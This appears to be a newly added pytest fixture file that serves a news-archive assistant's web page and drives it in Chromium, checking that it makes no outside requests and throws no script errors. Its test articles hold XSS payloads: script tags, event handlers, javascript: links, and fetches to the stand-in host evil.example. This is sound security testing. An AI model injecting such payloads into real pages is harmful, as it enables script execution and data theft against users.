@@ -1,0 +1,197 @@
+"""The real page in a real browser, over a real archive in a temporary folder."""
+
+from __future__ import annotations
+
+import os
+import socket
+import threading
+from collections.abc import Callable, Iterator, Sequence
+from dataclasses import dataclass, field
+
+import pytest
+import uvicorn
+from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright
+from starlette.datastructures import MutableHeaders
+from starlette.types import ASGIApp, Message, Receive, Scope, Send
+
+from index import Archive, Article, Filters, seeds
+from index.embed import SentenceTransformerEmbedder
+from index.load import Failure, article, read
+from qa import Answer, Assistant, Turn
+from ui import page as onrecord_page
+
+# Read when Gradio is imported; the command sets it too.
+os.environ["GRADIO_ANALYTICS_ENABLED"] = "False"
+
+CHROMIUM = "/usr/bin/chromium"
+QUIET = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
+
+HARBOUR = (
+    "Port Merrow will dredge its harbour next spring.\n\n"
+    "“We will start in April, and not a day later,” said Ilsa Vantongeren, the mayor of Port Merrow. "
+    "She added that the Tolvane ferry would keep running.\n\n"
+    "Osric Pellameen, who leads the fishers’ guild, said: “Nobody asked us about Tolvane.”\n"
+)
+
+HOSTILE = (
+    "# Not a heading\n\n"
+    "<script>document.title = 'owned'; fetch('http://evil.example/s')</script>\n"
+    '<img src="http://evil.example/i.png" onerror="document.title=\'owned\'">\n'
+    "<svg onload=\"document.title='owned'\"><use href='http://evil.example/u.svg#a'/></svg>\n"
+    "<form action='http://evil.example/f'><input name=x></form>\n"
+    "<style>@import url('http://evil.example/c.css'); body { background: url(http://evil.example/b.png) }</style>\n"
+    "[a link](http://evil.example/l) ![an image](http://evil.example/m.png) **bold** _it_ `code` ~~gone~~\n"
+    "<a href=\"javascript:document.title='owned'\">click</a> &amp; &lt;b&gt; &#65;\n"
+    "{{value}} ${document.title='owned'} {% raw %} \\(x^2\\) $$y$$ @children\n"
+    "Right to left: \u202egnorw\u202c and \u2066isolated\u2069, nul-like \u2400, soft\u00adhyphen, wide\u3000space\n"
+    "A carriage\rreturn, a tab\there, two  spaces, an emoji 👩‍🚀 outside the plane.\n"
+    "“Quoted <b>bold</b> words with *stars* and _lines_,” said Quill Ashgrove, the printer of Lower Wend.\n"
+)
+
+
+class Scripted(Assistant):
+    """The real assistant, but for questions whose replies a test writes itself."""
+
+    def __init__(self, archive: Archive):
+        super().__init__(archive)
+        self.replies: dict[str, Callable[[], Iterator[Answer]]] = {}
+        self.asked: list[tuple[str, Filters | None]] = []
+
+    def stream(self, question: str, history: Sequence[Turn] = (), filters: Filters | None = None) -> Iterator[Answer]:
+        self.asked.append((question, filters))
+        reply = self.replies.get(question)
+        return reply() if reply else super().stream(question, history, filters)
+
+
+@dataclass
+class Site:
+    """The page as it is being served."""
+
+    address: str
+    archive: Archive
+    assistant: Scripted
+
+
+def _made_up() -> list[Article | Failure]:
+    return [
+        article(
+            {"source": "harbour", "title": "Harbour to be dredged", "published": "2031-05-02", "text": HARBOUR}
+            | {"publisher": "Merrow Courier"}
+        ),
+        article(
+            {"source": "javascript:alert(1)", "title": "<i>Markup</i> & **stars** {{braces}}", "text": HOSTILE}
+            | {"publisher": "<b>Press</b>", "author": "\"><script>document.title='owned'</script>"}
+        ),
+    ]
+
+
+@pytest.fixture(scope="session")
+def held(tmp_path_factory: pytest.TempPathFactory, embedder: SentenceTransformerEmbedder) -> Iterator[Archive]:
+    """The archive behind the page: the seed and two made-up articles."""
+    with Archive(tmp_path_factory.mktemp("browser"), embedder=embedder) as archive:
+        report = archive.add([*read([seeds()]), *_made_up()])
+        assert (report.added, report.failed) == (3, [])
+        yield archive
+
+
+@pytest.fixture(scope="session")
+def serve(held: Archive) -> Iterator[Callable[..., Site]]:
+    """Serves the page; what it is given goes to `mount`."""
+    from ui.api import create_app
+    from ui.settings import Settings
+
+    running: list[tuple[uvicorn.Server, threading.Thread]] = []
+
+    def started(password: str | None = None) -> Site:
+        assistant = Scripted(held)
+        app = create_app(assistant, Settings())
+        app.add_middleware(Policed)
+        app = onrecord_page.mount(app, assistant, password=password)
+        listener = socket.create_server(("127.0.0.1", 0))
+        server = uvicorn.Server(uvicorn.Config(app, log_level="warning", timeout_graceful_shutdown=1))
+        thread = threading.Thread(target=server.run, args=([listener],))
+        thread.start()
+        running.append((server, thread))
+        return Site(f"http://127.0.0.1:{listener.getsockname()[1]}", held, assistant)
+
+    yield started
+    for server, thread in running:
+        server.should_exit = True
+        thread.join(10)
+
+
+@pytest.fixture(scope="session")
+def site(serve: Callable[..., Site]) -> Site:
+    return serve()
+
+
+@pytest.fixture(scope="session")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=QUIET)
+        yield browser
+        browser.close()
+
+
+class Policed:
+    """The policy that the page is made for, where the app does not set it yet."""
+
+    def __init__(self, app: ASGIApp):
+        self._app = app
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        async def marked(message: Message) -> None:
+            if message["type"] == "http.response.start":
+                headers = MutableHeaders(scope=message)
+                headers.setdefault("Content-Security-Policy", onrecord_page.CONTENT_SECURITY_POLICY)
+            await send(message)
+
+        await self._app(scope, receive, marked)
+
+
+@dataclass
+class Watch:
+    """What a browser context did that it should not: asked other hosts, or raised errors."""
+
+    address: str
+    elsewhere: list[str] = field(default_factory=list)
+    errors: list[str] = field(default_factory=list)
+
+    def on(self, context: BrowserContext) -> None:
+        context.on("request", lambda r: self._asked(r.url))
+        context.on("weberror", lambda error: self.errors.append(str(error.error)))
+        context.on("console", lambda said: self.errors.append(said.text) if said.type == "error" else None)
+
+    def _asked(self, url: str) -> None:
+        if not url.startswith((self.address, "data:", "blob:" + self.address)):
+            self.elsewhere.append(url)
+
+
+@pytest.fixture
+def context(browser: Browser, site: Site) -> Iterator[BrowserContext]:
+    """A browser of its own, in which nothing is asked of another host and no script fails."""
+    context = browser.new_context(viewport={"width": 1280, "height": 800}, reduced_motion="reduce")
+    context.grant_permissions(["clipboard-read", "clipboard-write"])
+    context.set_default_timeout(10_000)
+    watch = Watch(site.address)
+    watch.on(context)
+    yield context
+    context.close()
+    assert (watch.elsewhere, watch.errors) == ([], [])
+
+
+@pytest.fixture
+def page(context: BrowserContext, site: Site) -> Page:
+    """The page, opened and ready."""
+    page = context.new_page()
+    page.goto(site.address)
+    page.locator(".welcome").wait_for()
+    return page
